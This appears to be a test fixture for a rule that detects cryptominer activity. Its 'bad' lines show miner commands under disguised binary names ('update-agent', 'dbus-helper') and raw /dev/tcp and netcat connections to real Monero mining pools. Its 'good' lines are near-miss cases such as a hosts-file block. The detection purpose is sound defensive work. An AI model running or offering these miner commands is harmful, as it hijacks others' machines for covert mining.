# bad: a renamed miner
./update-agent -o pool.supportxmr.com:443 -u WALLET -p x --tls
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: a raw connection
exec 3<>/dev/tcp/xmr-eu1.nanopool.org/14444
# bad: with netcat
echo '{"id":1,"method":"login"}' | nc pool.hashvault.pro 3333
# bad: in one word with its option
/usr/lib/dbus-helper --pool=gulf.moneroocean.stream:10128
# good: nearly: blocks it
echo "0.0.0.0 pool.supportxmr.com" >> /etc/hosts
# good: nearly: a name that only ends alike
./app --host=notsupportxmr.com
# good: searches logs for it
grep -c supportxmr.com /var/log/dns.log
